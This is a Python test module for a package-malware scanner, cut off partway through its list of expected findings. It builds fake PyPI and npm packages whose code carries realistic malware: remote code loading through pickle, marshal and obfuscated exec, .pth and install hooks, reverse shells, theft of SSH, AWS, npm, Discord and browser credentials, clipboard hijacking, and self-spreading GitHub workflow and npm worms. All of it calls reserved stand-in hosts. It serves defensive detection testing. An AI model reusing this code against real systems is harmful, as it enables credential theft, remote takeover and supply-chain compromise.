"""Malware shapes the packages layer was never tuned on (issue 20, session 12): each written for
this test in the manner of campaigns reported in 2025-2026, with harmless markers and reserved
addresses (example.com/.net/.org, 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), asserted by
the location, code and severity of the behaviour it carries; and the ordinary code beside each
fix that must stay quiet.

Classes: deserialisation of a download (pickle, dill, marshal), payloads reached through console
scripts, decorators, class bodies, threads, ``atexit`` and ``__init__`` calling into submodules;
secrets sent through mail, FTP, DNS, websockets, ``http.client``, webhooks, gists and issues,
``curl`` in a string; ``.pth`` start-up hooks; code taken from a downloaded JSON field; npm
install chains (``node -e``, ``npm run``, a minified bundle), worms, workflow writes, reverse
shells; encoding layers and builtins reached by computed names.
"""

from __future__ import annotations

import base64
import codecs
import json
import zlib
from collections.abc import Callable

import pytest

from outwork.core.findings import Finding
from outwork.core.rules import Severity
from tests.analyzers.packages.helpers import npm_tarball, sdist, wheel
from tests.analyzers.packages.test_package_analysis import findings, run

C, H = Severity.CRITICAL, Severity.HIGH
SETUP = "from setuptools import setup\nsetup()\n"
Archive = tuple[str, bytes]


def sd(files: dict[str, str]) -> Archive:
    return "demo-1.0.tar.gz", sdist("demo", "1.0", {"setup.py": SETUP, **files})


def wh(files: dict[str, str], entry_points: str = "") -> Archive:
    members = dict(files)
    if entry_points:
        members["demo-1.0.dist-info/entry_points.txt"] = entry_points
    return "demo-1.0-py3-none-any.whl", wheel("demo", "1.0", members)


def npm(scripts: dict[str, str], files: dict[str, str]) -> Archive:
    manifest = json.dumps({"name": "demo", "version": "1.0.0", "scripts": scripts})
    return "demo-1.0.0.tgz", npm_tarball(manifest, files)


def lines(*rows: str) -> str:
    return "\n".join(rows) + "\n"


# --- remote code by deserialisation and by computed names ---------------------------------------


def pickle_import() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import pickle",
        "from urllib.request import urlopen",
        "",
        "SETTINGS = pickle.loads(urlopen('https://cfg.example.com/s.pkl').read())",
    )})  # fmt: skip


def pickle_on_call() -> Archive:
    return sd({"demo/__init__.py": "", "demo/config.py": lines(
        "import pickle",
        "import requests",
        "",
        "",
        "def load_profile(name):",
        "    resp = requests.get('https://cfg.example.com/profiles/' + name)",
        "    return pickle.loads(resp.content)",
    )})  # fmt: skip


def marshal_console() -> Archive:
    cli = lines(
        "import marshal, types, requests",
        "",
        "",
        "def _bootstrap():",
        "    blob = requests.get('http://192.0.2.10/c.bin', timeout=5).content",
        "    exec(marshal.loads(blob))",
        "",
        "",
        "def main():",
        "    _bootstrap()",
        "    print('ok')",
    )
    return wh(
        {"demo/__init__.py": "", "demo/cli.py": cli}, "[console_scripts]\ndemo = demo.cli:main\n"
    )


def dill_atexit() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import atexit",
        "import dill",
        "import urllib.request as ur",
        "",
        "",
        "def _flush():",
        "    fn = dill.loads(ur.urlopen('https://203.0.113.5/f').read())",
        "    fn()",
        "",
        "",
        "atexit.register(_flush)",
    )})  # fmt: skip


def getattr_builtins() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import urllib.request",
        "",
        "_f = getattr(__builtins__, 'ex' + 'ec') if not isinstance(__builtins__, dict)"
        " else __builtins__['ex' + 'ec']",
        "_f(urllib.request.urlopen('https://198.51.100.66/s').read())",
    )})  # fmt: skip


def import_builtins_dict() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import requests",
        "",
        "",
        "def warm():",
        "    __import__('builtins').__dict__[''.join(['e', 'v', 'a', 'l'])](compile("
        "requests.get('https://cdn.example.net/w.py').text, 'w', 'exec'))",
    )})  # fmt: skip


def functiontype() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import marshal, types, urllib.request",
        "",
        "",
        "def _bind():",
        "    code = marshal.loads(urllib.request.urlopen('http://192.0.2.61/c').read())",
        "    return types.FunctionType(code, globals())",
        "",
        "",
        "_bind()()",
    )})  # fmt: skip


def stdin_python() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import subprocess, sys, requests",
        "",
        "",
        "def update():",
        "    src = requests.get('https://198.51.100.9/u.py').content",
        "    subprocess.run([sys.executable, '-'], input=src)",
    )})  # fmt: skip


def json_field_exec() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import requests",
        "",
        "_cfg = requests.get('https://api.example.com/v2/config').json()",
        "exec(_cfg['init'])",
    )})  # fmt: skip


def json_decorator() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import json, urllib.request",
        "",
        "",
        "def plugin(fn):",
        "    fn()",
        "    return fn",
        "",
        "",
        "@plugin",
        "def _load():",
        "    meta = json.loads(urllib.request.urlopen('https://203.0.113.77/meta').read())",
        "    code = compile(meta['payload'], '<m>', 'exec')",
        "    exec(code, {})",
    )})  # fmt: skip


def module_from_json() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import sys, types, requests",
        "",
        "",
        "def _install():",
        "    spec = requests.get('https://updates.example.com/manifest.json').json()",
        "    src = ''.join(spec['chunks'])",
        "    mod = types.ModuleType('demo_ext')",
        "    exec(compile(src, 'demo_ext', 'exec'), mod.__dict__)",
        "    sys.modules['demo_ext'] = mod",
        "",
        "",
        "_install()",
    )})  # fmt: skip


def spec_loader() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import importlib.util, urllib.request",
        "",
        "",
        "def load_plugin():",
        "    src = urllib.request.urlopen('https://198.51.100.80/p.py').read()",
        "    spec = importlib.util.spec_from_loader('p', loader=None)",
        "    mod = importlib.util.module_from_spec(spec)",
        "    exec(src, mod.__dict__)",
        "    return mod",
    )})  # fmt: skip


# --- secrets through less common sinks ---------------------------------------------------------


def env_smtp_thread() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import os, smtplib, threading",
        "from email.message import EmailMessage",
        "",
        "",
        "def _report():",
        "    msg = EmailMessage()",
        "    msg['Subject'] = 'env'",
        "    msg['From'] = 'a@example.com'",
        "    msg['To'] = 'b@example.com'",
        "    msg.set_content('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))",
        "    with smtplib.SMTP('mail.example.com', 587) as s:",
        "        s.login('a@example.com', 'pw')",
        "        s.send_message(msg)",
        "",
        "",
        "threading.Thread(target=_report, daemon=True).start()",
    )})  # fmt: skip


def aws_ftp() -> Archive:
    return sd({"demo/__init__.py": "from .sync import push\npush()\n", "demo/sync.py": lines(
        "import ftplib, io, os",
        "",
        "",
        "def push():",
        "    path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')",
        "    with open(path, 'rb') as fh:",
        "        data = fh.read()",
        "    ftp = ftplib.FTP('198.51.100.20')",
        "    ftp.login('anonymous', 'x')",
        "    ftp.storbinary('STOR c.txt', io.BytesIO(data))",
    )})  # fmt: skip


def ssh_dns() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import os, socket",
        "",
        "",
        "def _probe():",
        "    key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read().hex()",
        "    for i in range(0, len(key), 60):",
        "        try:",
        "            socket.gethostbyname(key[i:i + 60] + '.t.example.net')",
        "        except OSError:",
        "            pass",
        "",
        "",
        "_probe()",
    )})  # fmt: skip


def discord_ws() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import glob, os, re",
        "import websocket",
        "",
        "",
        "class Sync:",
        "    def __init__(self):",
        "        root = os.path.join(os.getenv('APPDATA', ''), 'discord', 'Local Storage',"
        " 'leveldb')",
        "        found = []",
        "        for p in glob.glob(root + '/*.ldb'):",
        "            found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}',"
        " open(p, errors='ignore').read())",
        "        ws = websocket.create_connection('wss://relay.example.net/s')",
        "        ws.send('\\n'.join(found))",
        "",
        "",
        "Sync()",
    )})  # fmt: skip


def telegram_httpclient() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import http.client, io, os, shutil",
        "",
        "",
        "def _pack():",
        "    tdata = os.path.join(os.getenv('APPDATA', ''), 'Telegram Desktop', 'tdata')",
        "    arc = shutil.make_archive(os.path.join(os.getenv('TEMP', '/tmp'), 'td'), 'zip',"
        " tdata)",
        "    conn = http.client.HTTPSConnection('files.example.org')",
        "    conn.request('POST', '/u', body=open(arc, 'rb').read())",
        "    conn.getresponse()",
        "",
        "",
        "_pack()",
    )})  # fmt: skip


def npmrc_webhook() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import json, os, urllib.request",
        "",
        "HOOK = 'https://discord.com/api/webhooks/0000/aaaa'",
        "",
        "",
        "def check():",
        "    rc = os.path.expanduser('~/.npmrc')",
        "    if os.path.exists(rc):",
        "        body = json.dumps({'content': open(rc).read()}).encode()",
        "        req = urllib.request.Request(HOOK, data=body,"
        " headers={'Content-Type': 'application/json'})",
        "        urllib.request.urlopen(req)",
        "",
        "",
        "check()",
    )})  # fmt: skip


def gh_token_gist() -> Archive:
    cli = lines(
        "import os, subprocess, requests",
        "",
        "",
        "def main():",
        "    tok = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()",
        "    body = {'public': False, 'files': {'e.txt': {'content': repr(dict(os.environ))}}}",
        "    requests.post('https://api.github.com/gists', json=body,"
        " headers={'Authorization': 'token ' + tok})",
    )
    return wh(
        {"demo/__init__.py": "", "demo/cli.py": cli},
        "[console_scripts]\ndemo-init = demo.cli:main\n",
    )


def env_issue() -> Archive:
    return sd({
        "demo/__init__.py": lines(
            "import os",
            "from ._gh import note",
            "note(os.environ.get('GITHUB_TOKEN', ''))",
        ),
        "demo/_gh.py": lines(
            "import json, os, urllib.request",
            "",
            "",
            "def note(token):",
            "    data = json.dumps({'title': 'ci', 'body': json.dumps(dict(os.environ))}).encode()",
            "    req = urllib.request.Request('https://api.github.com/repos/someone/inbox/issues',"
            " data=data, method='POST')",
            "    req.add_header('Authorization', 'Bearer ' + token)",
            "    urllib.request.urlopen(req)",
        ),
    })  # fmt: skip


def curl_aws_string() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import os",
        "",
        "os.system('curl -s -X POST --data-binary @' + os.path.expanduser('~/.aws/credentials')"
        " + ' https://203.0.113.9/c >/dev/null 2>&1')",
    )})  # fmt: skip


def workflow_worm_py() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import base64, os, requests",
        "",
        "WF = 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
        "      - run: echo ${{ toJSON(secrets) }} | curl -d @- https://203.0.113.3/w\\n'",
        "",
        "",
        "def sync(repo):",
        "    tok = os.environ['GITHUB_TOKEN']",
        "    requests.put(f'https://api.github.com/repos/{repo}/contents/.github/workflows/sync.yml',",
        "                 headers={'Authorization': f'token {tok}'},",
        "                 json={'message': 'ci',"
        " 'content': base64.b64encode(WF.encode()).decode()})",
        "",
        "",
        "for r in requests.get('https://api.github.com/user/repos',"
        " headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']}).json():",
        "    sync(r['full_name'])",
    )})  # fmt: skip


def slack_boto3_entry() -> Archive:
    main = lines(
        "import boto3, requests",
        "",
        "",
        "def _ctx():",
        "    c = boto3.Session().get_credentials().get_frozen_credentials()",
        "    return {'k': c.access_key, 's': c.secret_key, 't': c.token}",
        "",
        "",
        "def run():",
        "    requests.post('https://hooks.slack.com/services/T000/B000/XXXX',"
        " json={'text': str(_ctx())})",
        "    print('ready')",
    )
    return wh(
        {"demo/__init__.py": "", "demo/main.py": main}, "[console_scripts]\ndemo = demo.main:run\n"
    )


def httpx_async_env() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import asyncio, pathlib",
        "import httpx",
        "",
        "",
        "async def _sync():",
        "    body = pathlib.Path('.env').read_text()",
        "    async with httpx.AsyncClient() as c:",
        "        await c.post('https://203.0.113.12/e', content=body)",
        "",
        "",
        "asyncio.run(_sync())",
    )})  # fmt: skip


def urllib3_env() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import json, os",
        "import urllib3",
        "",
        "_http = urllib3.PoolManager()",
        "",
        "",
        "def telemetry():",
        "    _http.request('POST', 'https://t.example.net/v', body=json.dumps(dict(os.environ)))",
    )})  # fmt: skip


def aiohttp_k8s() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import aiohttp",
        "",
        "TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token'",
        "",
        "",
        "async def beacon():",
        "    async with aiohttp.ClientSession() as s:",
        "        await s.post('https://198.51.100.70/k', data=open(TOKEN).read())",
    )})  # fmt: skip


def cookies_tg_doc() -> Archive:
    return sd({"demo/__init__.py": "", "demo/sync.py": lines(
        "import os, shutil, telebot",
        "",
        "bot = telebot.TeleBot('0000:AAAA')",
        "",
        "",
        "def backup():",
        "    src = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data',"
        " 'Default', 'Login Data')",
        "    shutil.copy(src, 'ld.db')",
        "    bot.send_document(1234, open('ld.db', 'rb'))",
    )})  # fmt: skip


def env_file_upload() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import json, os, tempfile, requests",
        "",
        "",
        "def _collect():",
        "    path = os.path.join(tempfile.gettempdir(), 'diag.json')",
        "    with open(path, 'w') as f:",
        "        json.dump(dict(os.environ), f)",
        "    with open(path, 'rb') as f:",
        "        requests.post('https://collect.example.net/u', files={'f': f})",
        "",
        "",
        "_collect()",
    )})  # fmt: skip


def zipped_keys_upload() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import os, zipfile, requests",
        "",
        "",
        "def backup():",
        "    z = os.path.join(os.getenv('TEMP', '/tmp'), 'b.zip')",
        "    with zipfile.ZipFile(z, 'w') as zf:",
        "        zf.write(os.path.expanduser('~/.ssh/id_rsa'), 'k')",
        "        zf.write(os.path.expanduser('~/.aws/credentials'), 'c')",
        "    requests.post('https://files.example.org/up', files={'file': open(z, 'rb')})",
    )})  # fmt: skip


def mnemonic_to_bot() -> Archive:
    return sd({"demo/__init__.py": "", "demo/wallet.py": lines(
        "import requests",
        "",
        "BOT = 'https://api.telegram.org/bot000:AAA/sendMessage'",
        "",
        "",
        "def from_mnemonic(phrase, passphrase=''):",
        "    requests.get(BOT, params={'chat_id': 1, 'text': phrase})",
        "    return phrase.split()",
    )})  # fmt: skip


def stego_image() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import io, requests",
        "from PIL import Image",
        "",
        "",
        "def _theme():",
        "    img = Image.open(io.BytesIO(requests.get('https://cdn.example.com/logo.png').content))",
        "    bits = ''.join(str(p[0] & 1) for p in img.getdata())",
        "    code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]",
        "    exec(code)",
        "",
        "",
        "_theme()",
    )})  # fmt: skip


def clipper() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import re, threading, time",
        "import pyperclip",
        "",
        "ADDR = '0x000000000000000000000000000000000000dEaD'",
        "",
        "",
        "def _watch():",
        "    while True:",
        "        t = pyperclip.paste()",
        "        if re.fullmatch(r'0x[a-fA-F0-9]{40}', t or ''):",
        "            pyperclip.copy(ADDR)",
        "        time.sleep(0.5)",
        "",
        "",
        "threading.Thread(target=_watch, daemon=True).start()",
    )})  # fmt: skip


# --- start-up hooks, shells, layers ------------------------------------------------------------


def pth_b64() -> Archive:
    stage = b"import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.44/p').read())\n"
    encoded = base64.b64encode(stage).decode()
    pth = f"import base64; exec(base64.b64decode('{encoded}'))\n"
    return wh({"demo/__init__.py": "", "demo_init.pth": pth})


def pth_spawn() -> Archive:
    return wh({
        "demo/__init__.py": "",
        "demo/_svc.py": lines(
            "import os, requests",
            "requests.post('https://collect.example.net/e', json=dict(os.environ))",
        ),
        "zz_demo.pth": "import subprocess, sys;"
        " subprocess.Popen([sys.executable, '-c', 'import demo._svc'])\n",
    })  # fmt: skip


def pth_import_hook() -> Archive:
    return wh({
        "demo/__init__.py": "",
        "demo_hook.py": lines(
            "import urllib.request, subprocess",
            "subprocess.Popen(['sh', '-c',"
            " urllib.request.urlopen('http://192.0.2.71/h').read().decode()])",
        ),
        "demo_hook.pth": "import demo_hook\n",
    })  # fmt: skip


def revshell_fds_class() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import socket, subprocess",
        "",
        "",
        "class _Link:",
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
        "    s.connect(('198.51.100.4', 443))",
        "    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(),"
        " stderr=s.fileno())",
    )})  # fmt: skip


def revshell_pty_thread() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import os, pty, socket, threading",
        "",
        "",
        "def _tty(host, port):",
        "    c = socket.create_connection((host, port))",
        "    for fd in (0, 1, 2):",
        "        os.dup2(c.fileno(), fd)",
        "    pty.spawn('/bin/bash')",
        "",
        "",
        "threading.Thread(target=_tty, args=('203.0.113.50', 9001), daemon=True).start()",
    )})  # fmt: skip


def bash_tcp_string() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import subprocess",
        "",
        "",
        "def diag():",
        "    subprocess.Popen(\"bash -c 'bash -i >& /dev/tcp/203.0.113.8/4444 0>&1'\","
        " shell=True)",
    )})  # fmt: skip


def b64_zlib_rot13() -> Archive:
    inner = b"import urllib.request as u, os\nos.system(u.urlopen('http://192.0.2.88/x').read().decode())\n"
    layered = codecs.encode(base64.b64encode(zlib.compress(inner)).decode(), "rot13")
    return sd({"demo/__init__.py": lines(
        "import base64, codecs, zlib",
        f"_ = '{layered}'",
        "exec(zlib.decompress(base64.b64decode(codecs.decode(_, 'rot13'))))",
    )})  # fmt: skip


def hex_layer() -> Archive:
    hexed = b"import os; os.system('curl -fsSL http://192.0.2.90/i.sh | bash')".hex()
    return sd({"demo/__init__.py": lines(
        f"_h = '{hexed}'",
        "",
        "def _r():",
        "    exec(bytes.fromhex(_h).decode())",
        "",
        "_r()",
    )})  # fmt: skip


def b85_import_zlib() -> Archive:
    stage = (
        b"import os\n"
        b"os.system('wget -q http://192.0.2.33/m -O /tmp/.m; chmod +x /tmp/.m; /tmp/.m')\n"
    )
    packed = base64.b85encode(zlib.compress(stage)).decode()
    return sd({"demo/__init__.py": lines(
        "import base64",
        f"eval(compile(__import__('zlib').decompress(base64.b85decode('{packed}')),"
        " '<x>', 'exec'))",
    )})  # fmt: skip


def rot13_class_init() -> Archive:
    hidden = codecs.encode("curl -s http://203.0.113.60/k.sh | bash", "rot13")
    return sd({"demo/__init__.py": lines(
        "import codecs, os",
        "",
        "",
        "class Telemetry:",
        "    def __init__(self):",
        f"        os.system(codecs.decode('{hidden}', 'rot_13'))",
        "",
        "",
        "_t = Telemetry()",
    )})  # fmt: skip


def shellcode_loader() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import ctypes, urllib.request",
        "",
        "",
        "def _go():",
        "    buf = urllib.request.urlopen('http://192.0.2.77/sc.bin').read()",
        "    k = ctypes.windll.kernel32",
        "    k.VirtualAlloc.restype = ctypes.c_void_p",
        "    p = k.VirtualAlloc(None, len(buf), 0x3000, 0x40)",
        "    ctypes.memmove(p, buf, len(buf))",
        "    h = k.CreateThread(None, 0, ctypes.c_void_p(p), None, 0, None)",
        "    k.WaitForSingleObject(h, -1)",
        "",
        "",
        "_go()",
    )})  # fmt: skip


# --- npm --------------------------------------------------------------------------------------

MODULE = "module.exports = {};\n"


def npm_node_e() -> Archive:
    inline = "node -e \"require('child_process').exec('curl -s http://192.0.2.15/i | sh')\""
    return npm({"preinstall": inline}, {"index.js": MODULE})


def npm_run_chain() -> Archive:
    env = lines(
        "const https = require('https');",
        "const data = JSON.stringify(process.env);",
        "const req = https.request({ hostname: 'collect.example.com', path: '/e',"
        " method: 'POST' });",
        "req.write(data);",
        "req.end();",
    )
    scripts = {"preinstall": "npm run build:env", "build:env": "node scripts/env.js"}
    return npm(scripts, {"index.js": MODULE, "scripts/env.js": env})


def npm_minified() -> Archive:
    bundle = (
        "const a=require('fs'),b=require('os'),c=require('path'),d=require('https');!function(){"
        "try{var t=a.readFileSync(c.join(b.homedir(),'.npmrc'),'utf8'),e=d.request({hostname:"
        "'203.0.113.21',port:443,path:'/t',method:'POST'});e.write(t),e.end()}catch(n){}}();\n"
    )
    return npm({"postinstall": "node dist/i.min.js"}, {"index.js": MODULE, "dist/i.min.js": bundle})


def npm_worm_publish() -> Archive:
    sync = lines(
        "const { execSync } = require('child_process');",
        "const fs = require('fs');",
        "const os = require('os');",
        "const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
        "const token = (rc.match(/_authToken=(.+)/) || [])[1];",
        "if (token) {",
        "  const who = execSync('npm whoami', { env: { ...process.env, NPM_TOKEN: token } })"
        ".toString().trim();",
        "  const list = JSON.parse(execSync(`npm search --json maintainer:${who}`).toString());",
        "  for (const p of list) {",
        "    execSync(`npm pack ${p.name} && npm publish --access public`, { cwd: os.tmpdir() });",
        "  }",
        "}",
    )
    return npm({"postinstall": "node lib/sync.js"}, {"index.js": MODULE, "lib/sync.js": sync})


def npm_gh_token_hook() -> Archive:
    setup = lines(
        "const cp = require('child_process');",
        "let t = '';",
        "try { t = cp.execSync('gh auth token').toString(); } catch (e) {}",
        "fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', headers: "
        "{'content-type': 'application/json'}, body: JSON.stringify({ content: t + "
        "JSON.stringify(process.env) }) });",
    )
    return npm({"install": "node setup.js"}, {"setup.js": setup})


def npm_revshell() -> Archive:
    shell = lines(
        "const net = require('net');",
        "const { spawn } = require('child_process');",
        "const sh = spawn('/bin/sh', []);",
        "const c = new net.Socket();",
        "c.connect(4444, '198.51.100.31', () => { c.pipe(sh.stdin); sh.stdout.pipe(c);"
        " sh.stderr.pipe(c); });",
    )
    return npm({"postinstall": "node r.js"}, {"r.js": shell})


def npm_stdio_revshell() -> Archive:
    shell = lines(
        "const tls = require('tls');",
        "const cp = require('child_process');",
        "const s = tls.connect(443, '203.0.113.14', {rejectUnauthorized: false}, () => {",
        "  cp.spawn('/bin/bash', ['-i'], { stdio: [s, s, s] });",
        "});",
    )
    return npm({"preinstall": "node s.js"}, {"s.js": shell})


def npm_dns() -> Archive:
    probe = lines(
        "const dns = require('dns');",
        "const os = require('os');",
        "const hex = Buffer.from(JSON.stringify({u: os.userInfo().username, h: os.hostname(),"
        " e: process.env})).toString('hex');",
        "for (let i = 0; i < hex.length; i += 50) dns.resolve(hex.slice(i, i + 50) +"
        " '.d.example.net', () => {});",
    )
    return npm({"preinstall": "node d.js"}, {"d.js": probe})


def npm_eval_fetch() -> Archive:
    boot = lines(
        "const https = require('https');",
        "https.get('https://203.0.113.40/b', r => { let s = ''; r.on('data', d => s += d);"
        " r.on('end', () => { new Function(Buffer.from(s, 'base64').toString())(); }); });",
    )
    return npm({"postinstall": "node boot.js"}, {"boot.js": boot})


def npm_workflow_api() -> Archive:
    worm = lines(
        "const t = process.env.GITHUB_TOKEN;",
        "const yml = 'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
        '      - run: curl -d "${{ toJSON(secrets) }}" https://203.0.113.3/x\\n\';',
        "async function go(repo) {",
        "  await fetch(`https://api.github.com/repos/${repo}/contents/.github/workflows/"
        "ci-sync.yml`, { method: 'PUT', headers: { authorization: `token ${t}` }, body: "
        "JSON.stringify({ message: 'ci', content: Buffer.from(yml).toString('base64') }) });",
        "}",
        "fetch('https://api.github.com/user/repos', { headers: { authorization: `token ${t}` } })"
        ".then(r => r.json()).then(rs => rs.forEach(r => go(r.full_name)));",
    )
    return npm({"postinstall": "node w.js"}, {"w.js": worm})


def npm_node_e_require() -> Archive:
    setup = (
        "require('https').get('https://203.0.113.90/?d=' + "
        "Buffer.from(JSON.stringify(process.env)).toString('base64'));\n"
    )
    scripts = {"install": "node -e \"require('./lib/setup')\""}
    return npm(scripts, {"index.js": MODULE, "lib/setup.js": setup})


def npm_bundle_eval() -> Archive:
    bundle = (
        '(()=>{var __webpack_modules__={12:(m,e,r)=>{eval("const {exec}=require('
        "'child_process');exec('curl -s http://192.0.2.99/x | sh')\")}};"
        "__webpack_modules__[12]({}, {}, null)})();\n"
    )
    return npm({"postinstall": "node dist/bundle.js"}, {"dist/bundle.js": bundle})


def npm_axios_npmrc() -> Archive:
    steal = lines(
        "const axios = require('axios');",
        "const fs = require('fs');",
        "const path = require('path');",
        "const home = require('os').homedir();",
        "const t = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');",
        "axios.post('https://discord.com/api/webhooks/1/z', { content: t });",
    )
    return npm({"preinstall": "node p.js"}, {"p.js": steal})


def npm_git_worm() -> Archive:
    push = lines(
        "const { execSync } = require('child_process');",
        "const fs = require('fs');",
        "const tok = execSync('gh auth token').toString().trim();",
        "fs.mkdirSync('.github/workflows', { recursive: true });",
        "fs.writeFileSync('.github/workflows/x.yml', 'on: push\\njobs:\\n  a:\\n    runs-on: "
        'ubuntu-latest\\n    steps:\\n      - run: curl -d "${{ toJSON(secrets) }}" '
        "https://203.0.113.3/x\\n');",
        "execSync(`git add -A && git commit -m ci && git push https://x:${tok}@github.com/"
        "${process.env.GITHUB_REPOSITORY}.git HEAD`);",
    )
    return npm({"postinstall": "node g.js"}, {"g.js": push})


def npm_computed_require() -> Archive:
    code = lines(
        "const m = require('child' + '_process');",
        "m['ex' + 'ec']('curl -s http://192.0.2.55/p | sh');",
    )
    return npm({"postinstall": "node i.js"}, {"i.js": code})


def npm_global_require() -> Archive:
    command = base64.b64encode(b"curl -s http://192.0.2.55/p | sh").decode()
    code = lines(
        "const cp = global['req' + 'uire']('child_process');",
        f"cp.execSync(Buffer.from('{command}', 'base64').toString());",
    )
    return npm({"postinstall": "node i.js"}, {"i.js": code})


def npm_ssh_key_request() -> Archive:
    code = lines(
        "const fs = require('fs'), os = require('os'), https = require('https');",
        "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');",
        "https.request({ hostname: 'k.example.net', method: 'POST', path: '/' }).end(key);",
    )
    return npm({"postinstall": "node k.js"}, {"k.js": code})


def npm_env_file() -> Archive:
    code = lines(
        "const fs = require('fs');",
        "const body = fs.readFileSync('.env', 'utf8');",
        "fetch('https://203.0.113.66/x', { method: 'POST', body });",
    )
    return npm({"postinstall": "node k.js"}, {"k.js": code})


def npm_env_file_on_use() -> Archive:
    code = lines(
        "const fs = require('fs');",
        "module.exports = function sync() {",
        "  const body = fs.readFileSync('.env', 'utf8');",
        "  return fetch('https://collect.example.net/x', { method: 'POST', body });",
        "};",
    )
    return npm({}, {"index.js": code})


# --- session 13: secrets gathered by helpers, scripts started by npm, loaders of downloads ---


def ssh_keys_glob_helper() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import base64, glob, os, requests",
        "",
        "def _collect():",
        "    out = {}",
        "    for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):",
        "        out[p] = base64.b64encode(open(p, 'rb').read()).decode()",
        "    return out",
        "",
        "requests.put('https://api.github.com/repos/example/loot/contents/k.json',",
        "             json={'content': base64.b64encode(str(_collect()).encode()).decode()})",
    )})  # fmt: skip


def ssh_keys_path_glob() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import pathlib, requests",
        "",
        "def _collect():",
        "    out = {}",
        "    for p in (pathlib.Path.home() / '.ssh').glob('id_*'):",
        "        out[p.name] = p.read_text()",
        "    return out",
        "",
        "requests.post('https://collect.example.net/k', json=_collect())",
    )})  # fmt: skip


def keys_appended_helper() -> Archive:
    return sd({"demo/__init__.py": "from demo import telemetry\n", "demo/telemetry.py": lines(
        "import os, requests",
        "",
        "def _gather():",
        "    found = []",
        "    found.append(os.environ.get('AWS_SECRET_ACCESS_KEY'))",
        "    found.append(open(os.path.expanduser('~/.aws/credentials')).read())",
        "    return found",
        "",
        "requests.post('https://collect.example.net/t', json={'t': _gather()})",
    )})  # fmt: skip


def npm_shell_script() -> Archive:
    return npm(
        {"preinstall": "bash ./scripts/pre.sh"},
        {"scripts/pre.sh": "#!/bin/sh\ncurl -fsSL https://203.0.113.7/i.sh | bash\n"},
    )


def checkpoint_download() -> Archive:
    return sd({"demo/__init__.py": "", "demo/hub.py": lines(
        "import io, requests, torch",
        "",
        "def pretrained(name):",
        "    blob = requests.get('https://models.example.com/' + name).content",
        "    return torch.load(io.BytesIO(blob), weights_only=False)",
    )})  # fmt: skip


def telegram_shell_one_import() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import subprocess, telebot",
        "bot = telebot.TeleBot('123456:AAE-example')",
        "",
        "@bot.message_handler(func=lambda m: True)",
        "def on_message(m):",
        "    out = subprocess.run(m.text, shell=True, capture_output=True).stdout",
        "    bot.reply_to(m, out)",
        "",
        "bot.infinity_polling()",
    )})  # fmt: skip


def discord_shell_one_import() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import os, discord",
        "client = discord.Client(intents=discord.Intents.all())",
        "",
        "@client.event",
        "async def on_message(message):",
        "    os.system(message.content)",
        "",
        "client.run('MTAx.example.token')",
    )})  # fmt: skip


def browser_store_copied_to_temp() -> Archive:
    return sd({"demo/__init__.py": lines(
        "import os, shutil, tempfile, requests",
        "src = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data',",
        "                   'Default', 'Login Data')",
        "tmp = os.path.join(tempfile.gettempdir(), 'ld.db')",
        "shutil.copy(src, tmp)",
        "requests.post('https://discord.com/api/webhooks/1/abc', files={'f': open(tmp, 'rb')})",
    )})  # fmt: skip


#: sample, path, line, code, severity of the behaviour it must keep. The comment says what the
#: packages layer reported before session 12 where it differed.
CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
    (pickle_import, "demo-1.0/demo/__init__.py", 4, "PKG003", C),  # was PKG007 high only
    (pickle_on_call, "demo-1.0/demo/config.py", 7, "PKG003", H),  # was nothing
    (marshal_console, "demo/cli.py", 6, "PKG003", C),
